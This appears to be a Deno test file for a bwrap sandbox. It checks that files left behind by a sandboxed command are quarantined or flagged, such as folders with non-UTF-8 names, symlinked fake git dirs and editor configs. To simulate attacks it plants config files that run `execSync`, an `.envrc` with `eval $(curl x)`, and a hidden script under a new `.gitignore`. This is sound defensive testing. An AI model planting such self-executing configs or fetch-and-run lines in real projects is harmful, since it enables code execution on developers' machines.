/**
 * Code that runs later, outside the sandbox — the fifth attacker pass (issue 16 class 3;
 * docs/permissions.md "New dot-entries"), on real bwrap, the sandbox called directly (no guard):
 *
 * - a folder the after-command scan cannot read (a name that is not valid UTF-8)
 *   made by the command is quarantined whole and named; one that existed before is reported;
 * - `CACHEDIR.TAG` switches the dot-entry review off only where it existed before the command,
 *   never at the workspace root or in a folder git tracks; removing a tag turns nothing into new;
 * - a git dir whose `objects`/`refs` are symlinks to folders is a git dir (git's test follows);
 * - editors' non-dot configs (`eslint.config.*`, …) are protected; a changed `.gitignore` is flagged.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { detectBackend } from "../core/policy/sandbox/mod.ts";
import { commandWorld, exists, GIT_ID, sh } from "./support/sandbox_world.ts";

async function world(setup = "true") {
  const { backend } = await detectBackend();
  assert.ok(backend, "bwrap must be installed for these tests");
  return await commandWorld(
    "coyote-later5-",
    `git init -q . && printf 'dist/\\n' > .gitignore && ${setup}`,
  );
}

Deno.test("runs later 5: a new folder whose name is not valid UTF-8 is quarantined whole and named", async () => {
  const w = await world();
  try {
    const out = await w.run(
      `mkdir $'pkg\\xff' && cd $'pkg\\xff' && echo x > .envrc && git init -q . && mkdir .foo && echo x > .foo/y && echo done`,
    );
    assert.match(out, /done/);
    assert.equal((await sh(`ls -A`, w.ws)).trim(), ".git\n.gitignore", out);
    assert.match(out, /moved 1 new folder it could not read/, out);
    assert.match(out, new RegExp(`pkg\uFFFD → ${w.data}/quarantine/`), out);
    const q = (await sh(`find ${w.data}/quarantine -name .envrc`)).trim();
    assert.ok(q.endsWith("/.envrc"), `nothing lost: ${q}`);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 5: an unreadable folder that existed before is reported and kept", async () => {
  const w = await world(`mkdir $'old\\xfe' && echo x > $'old\\xfe/f'`);
  try {
    const out = await w.run(`echo done`);
    assert.match(out, /done/);
    assert.match(out, /folders the OS sandbox could not read .*: old\uFFFD/, out);
    assert.equal((await sh(`ls $'old\\xfe'`, w.ws)).trim(), "f", out);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 5: CACHEDIR.TAG is honoured only where it was before, not at the root, not in tracked folders", async () => {
  const w = await world(
    [
      `mkdir -p target tracked && touch target/CACHEDIR.TAG tracked/CACHEDIR.TAG tracked/a`,
      `git add tracked && git ${GIT_ID} commit -q -m t`,
      `mkdir -p keep/.github && echo x > keep/.github/ci.yml && touch keep/CACHEDIR.TAG`,
    ].join(" && "),
  );
  try {
    // At the root, the tag the command makes is itself a new entry; the dot-entries are reviewed.
    const out = await w.run(
      `touch CACHEDIR.TAG; mkdir .bar; echo x > .bar/x; echo 'module.exports={}' > .eslintrc.js; echo done`,
    );
    assert.match(out, /done/);
    for (const p of ["CACHEDIR.TAG", ".bar", ".eslintrc.js"]) {
      assert.equal(await exists(join(w.ws, p)), false, `${p}: ${out}`);
    }
    // A tag that existed before, in an untracked folder: its entries are not reviewed.
    const out2 = await w.run(`mkdir target/.fingerprint2 && echo x > target/.fingerprint2/f`);
    assert.equal(await exists(join(w.ws, "target/.fingerprint2/f")), true, out2);
    // In a folder git tracks, the tag does not switch the review off.
    const out3 = await w.run(`mkdir tracked/.hooks && echo x > tracked/.hooks/x`);
    assert.equal(await exists(join(w.ws, "tracked/.hooks")), false, out3);
    // A tag that a command makes in a new folder is new; its dot-entries are reviewed.
    const out4 = await w.run(`mkdir -p fresh/.x && touch fresh/CACHEDIR.TAG fresh/.x/y`);
    assert.equal(await exists(join(w.ws, "fresh/.x")), false, out4);
    assert.equal(await exists(join(w.ws, "fresh/CACHEDIR.TAG")), false, out4);
    // Removing a tag turns no existing entry into a new one.
    const out5 = await w.run(`rm keep/CACHEDIR.TAG; echo done`);
    assert.equal(await exists(join(w.ws, "keep/.github/ci.yml")), true, out5);
    assert.doesNotMatch(out5, /quarantine/, out5);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 5: a git dir whose objects/ and refs/ are symlinks to folders is quarantined", async () => {
  const w = await world(`git ${GIT_ID} commit -q --allow-empty -m i`);
  try {
    const out = await w.run(
      `mkdir evil && echo 'ref: refs/heads/main' > evil/HEAD && ln -s ../.git/objects evil/objects && ln -s ../.git/refs evil/refs && echo done`,
    );
    assert.match(out, /done/);
    // git itself takes it for a git dir (the attack's premise).
    assert.equal(await exists(join(w.ws, "evil")), false, out);
    assert.match(out, /evil \(a git dir \(HEAD, objects\/, refs\/\)/, out);
    assert.match(out, new RegExp(`moved to ${w.data}/quarantine/[^/]+/evil`), out);
    assert.equal(await exists(join(w.ws, ".git/objects")), true);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 5: editors' non-dot configs are protected; a new or removed .gitignore is flagged, kept", async () => {
  const w = await world("mkdir sub && echo x > sub/.gitignore");
  try {
    const names = [
      "eslint.config.mjs",
      "prettier.config.js",
      ".prettierrc.cjs",
      "jest.config.ts",
      "vitest.config.mts",
    ];
    const out = await w.run(
      `${
        names.map((n) => `echo 'require("child_process").execSync("touch PROOF")' > ${n}`).join(
          "; ",
        )
      }; mkdir -p lib && echo '*' > lib/.gitignore && echo secret > lib/planted.sh; rm sub/.gitignore; echo done`,
    );
    assert.match(out, /done/);
    for (const n of names) {
      assert.equal(await exists(join(w.ws, n)), false, `${n}: ${out}`);
      assert.match(out, new RegExp(`${n.replace(/\./g, "\\.")} \\(protected as `), out);
    }
    assert.equal(await exists(join(w.ws, "lib/.gitignore")), true);
    assert.match(out, /ignore lists the command created, changed or removed[^\n]*lib\/\.gitignore/);
    assert.match(out, /ignore lists [^\n]*sub\/\.gitignore/);
  } finally {
    await w.cleanup();
  }
});

Deno.test("runs later 5: past the scan caps a new top-level folder not checked whole is quarantined; an existing one is only named", async () => {
  const w = await world("mkdir -p old/a && echo x > old/a/f");
  try {
    const out = await w.run(
      `mkdir -p gen/d{1..20001} && echo 'eval $(curl x)' > gen/d7/.envrc && echo done`,
    );
    assert.match(out, /done/);
    assert.equal(await exists(join(w.ws, "gen")), false, out.slice(0, 2000));
    assert.match(out, /checks stopped at their caps[^\n]*1 new top-level folder[^\n]*\n {2}gen → /);
    assert.equal(await exists(join(w.ws, "old/a/f")), true);
    // The dot-entry cap: a new folder with more dot-entries than are reviewed goes the same way.
    const out2 = await w.run(`mkdir -p dots/.d{1..5001} && echo done`);
    assert.match(out2, /done/);
    assert.equal(await exists(join(w.ws, "dots")), false, out2.slice(0, 2000));
    assert.match(out2, /new top-level folder[^\n]*\n {2}dots → /);
    assert.doesNotMatch(
      out2,
      /new dot-file/,
      "the quarantined folder is not reviewed entry by entry",
    );
  } finally {
    await w.cleanup();
  }
});
